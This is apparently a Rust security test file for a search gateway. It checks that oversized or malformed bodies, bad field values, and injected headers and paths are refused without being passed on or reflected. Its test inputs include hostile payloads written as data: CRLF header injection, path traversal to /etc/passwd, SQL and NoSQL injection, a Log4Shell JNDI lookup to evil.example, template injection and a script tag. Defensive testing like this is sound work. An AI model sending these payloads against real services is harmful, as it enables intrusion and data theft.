//! What clients send that they should not. No request is answered with a 500, and nothing sent ends up where it was not meant.
//!
//! | bad input | test |
//! |---|---|
//! | bodies too large, of another type, no JSON, too deep | [`bodies_that_are_none`] |
//! | wrong types and values, field by field | [`fields_of_another_type_or_out_of_bounds`] |
//! | Unicode, control characters, CR/LF in every field of a search | [`strange_words_reach_a_vendor_as_words_only`] |
//! | the same in settings, user ids, paths | [`strange_settings_come_back_as_they_were`], [`strange_paths_lead_nowhere`] |
//! | CR/LF in headers, broken heads | [`broken_heads_are_refused_and_reflect_nothing`] |

use reqwest::Method;
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::fake::{Fake, Reply};
use crate::gateway::start;
use crate::running::{Running, answer, code};

const STRANGE: [&str; 12] = [
    "a\r\nX-Evil: 1\r\n\r\nGET /evil HTTP/1.1",
    "nul \0 bell \u{7} escape \u{1b}[31m",
    "right to left \u{202e}gnp.exe and zero\u{200b}width\u{feff}",
    "lines \u{2028}\u{2029}\u{85}",
    "e\u{301}\u{301}\u{301} \u{1f469}\u{200d}\u{1f4bb} \u{10ffff} \u{fffe}",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd?x=1#y",
    "\"} ) OR 1=1 -- ' ; DROP {\"$ne\": 1}",
    "${jndi:ldap://evil.example/a} {{7*7}} <script>alert(1)</script>",
    "%0d%0aX-Evil:%201 %00 %ff",
    "\\\\evil\\share \\u0000",
    "日本語 العربية हिन्दी",
];

#[tokio::test]
async fn bodies_that_are_none() {
    let folder = TempDir::new().unwrap();
    let gateway = start(&folder, &[]).await;
    let json = "application/json";
    let large = json!({"query": "x", "filters": {"a": "y".repeat(64 * 1024)}}).to_string();
    let deep = format!("{{\"query\": \"x\", \"filters\": {}", "[".repeat(60_000));
    for (kind, body, status, expected) in [
        (json, large.as_bytes(), 413, "body_too_large"),
        (json, deep.as_bytes(), 400, "invalid_request"),
        (json, b"", 400, "invalid_request"),
        (json, b"query=x", 400, "invalid_request"),
        (json, b"{\"query\": \"\xff\xfe\"}", 400, "invalid_request"),
        (json, b"{\"query\": \"\\ud800\"}", 400, "invalid_request"),
        (
            json,
            b"{\"query\": \"x\", \"query\": \"y\"}",
            400,
            "invalid_request",
        ),
        (json, b"[]", 400, "invalid_request"),
        (json, b"null", 400, "invalid_request"),
        (
            "text/plain",
            b"{\"query\": \"x\"}",
            415,
            "unsupported_media_type",
        ),
        ("", b"{\"query\": \"x\"}", 415, "unsupported_media_type"),
    ] {
        for (method, path) in [
            (Method::POST, "/api/search"),
            (Method::POST, "/api/search/stream"),
            (Method::PUT, "/api/settings/ann"),
        ] {
            let is_fine =
                path.contains("settings") && (body.starts_with(b"{\"query\": \"x\", \"query\""));
            if is_fine {
                continue;
            }
            let request = gateway.request(method, path).header("content-type", kind);
            let (found, said) = answer(request.body(body.to_vec())).await;
            let shown = String::from_utf8_lossy(&body[..body.len().min(60)]);
            assert_eq!(
                (found, code(&said)),
                (status, expected),
                "{path} {kind} {shown}"
            );
        }
    }
}

#[tokio::test]
async fn fields_of_another_type_or_out_of_bounds() {
    let folder = TempDir::new().unwrap();
    let gateway = start(&folder, &[]).await;
    let long = "é".repeat(513);
    for (field, values) in [
        (
            "query",
            json!([null, 5, true, ["x"], {"a": 1}, "", " \t\r\n", long]),
        ),
        (
            "limit",
            json!([0, 101, -1, 1.5, "5", null, 18446744073709551615u64, 1e300]),
        ),
        ("filters", json!([[], "x", 5])),
        (
            "services",
            json!(["jira", {"a": 1}, [5], ["nope"], ["\u{0}"]]),
        ),
        (
            "user_id",
            json!([5, "", "a b", "a\r\nb", "../x", "é", "a/b", "x".repeat(129)]),
        ),
    ] {
        for value in values.as_array().unwrap() {
            let mut body = json!({"query": "x"});
            body[field] = value.clone();
            for path in ["/api/search", "/api/search/stream"] {
                let (status, said) = gateway.post(path, body.clone()).await;
                assert_eq!(status, 400, "{path} {body}: {said}");
                let expected = ["invalid_request", "unknown_service"];
                assert!(expected.contains(&code(&said)), "{said}");
            }
        }
    }
    for user in ["a b", "", "é"] {
        let request = gateway.request(Method::POST, "/api/search");
        let request = request.header("x-user-id", user.as_bytes());
        let (status, said) = answer(request.json(&json!({"query": "x"}))).await;
        assert_eq!((status, code(&said)), (400, "invalid_request"), "{user}");
    }
}

const ONE_VENDOR: [(&str, &[(&str, &str)]); 10] = [
    (
        "confluence",
        &[
            ("CONFLUENCE_URL", ""),
            ("CONFLUENCE_USERNAME", "a"),
            ("CONFLUENCE_TOKEN", "t"),
        ],
    ),
    (
        "devtools",
        &[
            ("STACKOVERFLOW_API_URL", ""),
            ("NPM_API_URL", ""),
            ("PYPI_API_URL", ""),
        ],
    ),
    (
        "figma",
        &[
            ("FIGMA_API_URL", ""),
            ("FIGMA_TOKEN", "t"),
            ("FIGMA_TEAM_ID", "42"),
        ],
    ),
    ("github", &[("GITHUB_API_URL", ""), ("GITHUB_TOKEN", "t")]),
    (
        "google",
        &[
            ("GOOGLE_LOGIN_URL", ""),
            ("GOOGLE_DRIVE_URL", ""),
            ("GOOGLE_GMAIL_URL", ""),
            ("GOOGLE_CLIENT_ID", "i"),
            ("GOOGLE_CLIENT_SECRET", "s"),
            ("GOOGLE_REFRESH_TOKEN", "r"),
        ],
    ),
    (
        "jira",
        &[
            ("JIRA_URL", ""),
            ("JIRA_USERNAME", "a"),
            ("JIRA_TOKEN", "t"),
        ],
    ),
    ("linear", &[("LINEAR_API_URL", ""), ("LINEAR_API_KEY", "t")]),
    (
        "microsoft365",
        &[
            ("MS_LOGIN_URL", ""),
            ("MS_GRAPH_URL", ""),
            ("MS_CLIENT_ID", "i"),
            ("MS_CLIENT_SECRET", "s"),
            ("MS_TENANT_ID", "acme.example"),
            ("MS_REGION", "EUR"),
            ("MS_MAILBOXES", "ann@acme.example"),
        ],
    ),
    ("notion", &[("NOTION_API_URL", ""), ("NOTION_API_KEY", "t")]),
    (
        "slack",
        &[
            ("SLACK_API_URL", ""),
            ("SLACK_BOT_TOKEN", "t"),
            ("SLACK_USER_TOKEN", "t"),
        ],
    ),
];

#[tokio::test]
async fn strange_words_reach_a_vendor_as_words_only() {
    let token = json!({"access_token": "t", "expires_in": 3599});
    let vendor = Fake::always(Reply::json(token)).await;
    for (role, variables) in ONE_VENDOR {
        let filled = variables.iter().map(|(name, value)| match *value {
            "" => (*name, vendor.url.as_str()),
            value => (*name, value),
        });
        let service = Running::start(role, &filled.collect::<Vec<_>>()).await;
        for words in STRANGE {
            let names = [
                "author",
                "channel",
                "content_type",
                "issue_type",
                "label",
                "org",
                "project",
                "repo",
                "site",
                "space",
                "status",
                "team",
                "type",
            ];
            let filters: Value = names
                .iter()
                .map(|name| ((*name).to_owned(), json!([words, 5, null])))
                .collect();
            for filters in [json!({}), filters] {
                let body = json!({"query": words, "filters": filters, "services": [words], "user_id": words});
                let (status, said) = service.post("/search", body).await;
                let is_told = [200, 422, 502].contains(&status);
                assert!(is_told, "{role} {words:?}: {status} {said}");
            }
        }
    }
    let seen = vendor.seen();
    assert!(seen.len() > 100, "{}", seen.len());
    for asked in seen {
        assert!(!asked.headers.contains_key("x-evil"), "{asked:?}");
        let steps: Vec<&str> = asked.path.split('/').collect();
        let leads_away = steps.contains(&"..") || asked.path.contains(['\r', '\n', '\0', '\\']);
        assert!(!leads_away && !asked.path.starts_with("/evil"), "{asked:?}");
    }
}

#[tokio::test]
async fn strange_settings_come_back_as_they_were() {
    let folder = TempDir::new().unwrap();
    let gateway = start(&folder, &[]).await;
    for words in STRANGE {
        let sent = json!({"note": words, "list": [words, {"inner": words}]});
        let request = gateway
            .request(Method::PUT, "/api/settings/ann")
            .json(&sent);
        let (status, said) = answer(request).await;
        assert_eq!((status, &said["settings"]), (200, &sent), "{words:?}");
        assert_eq!(gateway.get("/api/settings/ann").await.1["settings"], sent);
        let request = gateway.request(Method::PUT, "/api/settings/ann");
        let (status, said) = answer(request.json(&json!({words: 1}))).await;
        assert!([200, 400].contains(&status), "{words:?}: {status} {said}");
    }
}

/// Sends bytes as they are; everything that comes back.
async fn raw(gateway: &Running, bytes: &[u8]) -> String {
    let address = gateway.url.strip_prefix("http://").unwrap();
    let mut stream = TcpStream::connect(address).await.unwrap();
    stream.write_all(bytes).await.unwrap();
    let mut said = Vec::new();
    // A head that is refused may end in a reset; what was said before it counts.
    let _ = stream.read_to_end(&mut said).await;
    String::from_utf8_lossy(&said).into_owned()
}

#[tokio::test]
async fn strange_paths_lead_nowhere() {
    let folder = TempDir::new().unwrap();
    let gateway = start(&folder, &[]).await;
    for (path, expected) in [
        ("/api/settings/..%2f..%2fetc%2fpasswd", "400"),
        ("/api/settings/a%0d%0aX-Evil:%201", "400"),
        ("/api/settings/%00", "400"),
        ("/api/settings/%ff", "400"),
        ("/api/settings/%E2%80%AE", "400"),
        ("/api/history/ann?limit=-1", "400"),
        ("/api/history/ann?limit=%ff", "400"),
        ("/api/history/ann?limit=1&limit=2", "400"),
        ("/api/history/ann?limit=99999999999999999999999", "400"),
        ("/api/../../etc/passwd", "404"),
        ("/api/settings/../../../etc/passwd", "404"),
        ("//api/health", "404"),
        ("/api/docs/../../../etc/passwd", "404"),
    ] {
        let said = raw(
            &gateway,
            format!("GET {path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n").as_bytes(),
        )
        .await;
        assert!(
            said.starts_with(&format!("HTTP/1.1 {expected} ")),
            "{path}: {said}"
        );
        assert!(
            !said.contains("root:") && !said.to_lowercase().contains("\r\nx-evil"),
            "{path}: {said}"
        );
    }
}

#[tokio::test]
async fn broken_heads_are_refused_and_reflect_nothing() {
    let folder = TempDir::new().unwrap();
    let gateway = start(&folder, &[("CORS_ORIGINS", "https://atlas.example.com")]).await;
    for (header, expected) in [
        ("x-request-id: a\r\n x-evil: 1", "400"),
        ("x-request-id: a\rx-evil: 1", "400"),
        ("x-request-id: a\0b", "400"),
        ("x-request-id: \u{e9}%0d%0ax-evil: 1", "200"),
        ("origin: https://evil.example%0d%0ax-evil: 1", "200"),
        ("x evil: 1", "400"),
        ("content-length: -1", "400"),
        ("content-length: 5\r\ncontent-length: 6", "400"),
    ] {
        let said = raw(
            &gateway,
            format!("GET /api HTTP/1.1\r\nhost: x\r\nconnection: close\r\n{header}\r\n\r\n")
                .as_bytes(),
        )
        .await;
        assert!(
            said.starts_with(&format!("HTTP/1.1 {expected} ")),
            "{header}: {said}"
        );
        let head = said.split("\r\n\r\n").next().unwrap().to_lowercase();
        assert!(
            !head.contains("evil") && !head.contains("access-control-allow-origin"),
            "{header}: {said}"
        );
    }
}
